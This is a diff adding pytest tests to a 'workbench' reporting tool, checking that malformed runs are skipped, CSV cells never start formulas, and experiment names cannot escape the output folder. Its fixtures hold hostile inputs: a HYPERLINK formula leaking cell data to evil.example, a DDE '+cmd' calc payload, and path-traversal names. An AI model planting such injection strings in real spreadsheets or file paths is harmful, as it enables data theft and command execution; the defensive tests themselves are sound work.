@@ -767,6 +767,100 @@ def _table_rows_header(html: str, heading: str) -> list[str]:
     return re.findall(r"<th(?: [^>]*)?>(.*?)</th>", head)
 
 
+# --- hostile stores and names (issue 14) ----------------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory: pytest.TempPathFactory) -> Any:
+    """A shared store: a formula as a variant, runs without a variant tag or with malformed
+    workbench tags beside good ones, an experiment with no usable run, hostile names."""
+    folder = tmp_path_factory.mktemp("hostile")
+    store = Store(folder)
+    client = store.client()
+    experiment_id = client.create_experiment("shared")
+    for seed in (1, 2):
+        fabricate(client, experiment_id, FORMULA, seed, params={"train.grad_clip": "-0.5"})
+        fabricate(client, experiment_id, "+cmd|' /C calc'!A0", seed, index=1)
+    fabricate(client, experiment_id, None, 3)  # someone else's run: no variant tag
+    fabricate(client, experiment_id, "bigram", 4, tags={TAG + "seed": "four"})
+    fabricate(client, experiment_id, "bigram", 5, tags={TAG + "pid": "not-a-pid"},
+              status="RUNNING")  # fmt: skip
+    broken = client.create_experiment("broken")
+    fabricate(client, broken, None, 1)
+    for name in ("../../escape", "/abs/path", "escape", "n" * 300):
+        fabricate(client, client.create_experiment(name), "bigram", 1)
+    return store
+
+
+def test_malformed_runs_are_skipped_with_one_line_each(hostile: Store) -> None:
+    result = CliRunner().invoke(
+        app,
+        ["report", "--tracking-uri", hostile.uri, "-e", "shared", "--out", str(hostile.reports)],
+    )
+    assert result.exit_code == 0, result.output
+    skipped = [line for line in result.stderr.splitlines() if "skipped run" in line]
+    assert len(skipped) == 3, result.stderr
+    assert any("no workbench.variant tag" in line for line in skipped)
+    assert any("workbench.seed='four' is not a number" in line for line in skipped)
+    assert any("workbench.pid='not-a-pid'" in line for line in skipped)
+    assert "Traceback" not in result.output
+    assert "4 — 4 finished" in _text(hostile.html("shared"))
+
+
+def test_one_experiment_that_cannot_be_reported_costs_one_line(hostile: Store) -> None:
+    out = hostile.folder / "all"
+    result = CliRunner().invoke(app, ["report", "--tracking-uri", hostile.uri, "--out", str(out)])
+    assert result.exit_code == 1
+    failures = [line for line in result.stderr.splitlines() if "not reported" in line]
+    assert failures == [
+        f"broken: not reported: {hostile.uri}: experiment 'broken' has no well-formed workbench run"
+    ]
+    assert "Traceback" not in result.output
+    assert len(list(out.glob("*.html"))) == 5  # shared and the four hostile names
+
+
+def test_csv_cells_never_start_a_formula(hostile: Store) -> None:
+    import csv
+
+    _report(hostile, "shared")
+    with (hostile.folder / "more" / "shared.csv").open(newline="", encoding="utf-8") as file:
+        rows = list(csv.reader(file))
+    header, body = rows[0], rows[1:]
+    cells = [cell for row in body for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "@", "\t", "\r")]
+    assert not [c for c in cells if c[:1] in ("+", "-") and not _is_number(c)]
+    variant = header.index(f"tags.{TAG}variant")
+    assert {row[variant] for row in body} == {"'" + FORMULA, "'+cmd|' /C calc'!A0"}
+    clip = header.index("params.train.grad_clip")
+    assert {row[clip] for row in body} == {"-0.5", ""}  # a negative number stays a number
+
+
+def test_an_experiment_name_is_never_a_path(hostile: Store, tmp_path: Path) -> None:
+    from workbench.report import write_reports
+
+    names = ["../../escape", "/abs/path", "escape", "n" * 300]
+    out = tmp_path / "deep" / "reports"
+    paths = write_reports(hostile.uri, names, out)
+    assert len(paths) == 8 and len(set(paths)) == 8
+    for path in paths:
+        assert path.resolve().parent == out.resolve(), path
+        assert len(path.name) < 100
+    stems = [p.stem for p in paths[::2]]
+    assert stems[2] == "escape"  # a safe name is its own file name
+    assert stems[0].startswith("escape-") and stems[1].startswith("abs_path-")
+    assert not list((tmp_path / "deep").glob("*.html")) and not list(tmp_path.glob("*.html"))
+
+
+def _is_number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
 # --- no store needed -----------------------------------------------------------------------------
 
 
